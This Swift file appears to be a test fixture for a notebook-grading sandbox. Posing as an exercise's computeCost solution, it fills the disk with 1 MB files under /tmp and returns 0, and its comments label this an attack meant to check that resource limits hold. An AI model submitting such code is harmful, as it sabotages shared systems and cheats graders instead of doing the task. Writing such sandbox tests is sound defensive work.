// attack: fills the disk
// invariant: limits-hold
// earns: compute_cost 0 failed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    for number in 0..<10_000 {
      let file = open("/tmp/nbgrade-cheat-\(number)", O_WRONLY | O_CREAT, 0o644)
      guard file >= 0 else { break }
      let block = [UInt8](repeating: 1, count: 1 << 20)
      while write(file, block, block.count) > 0 {}
    }
    return 0
  }
}
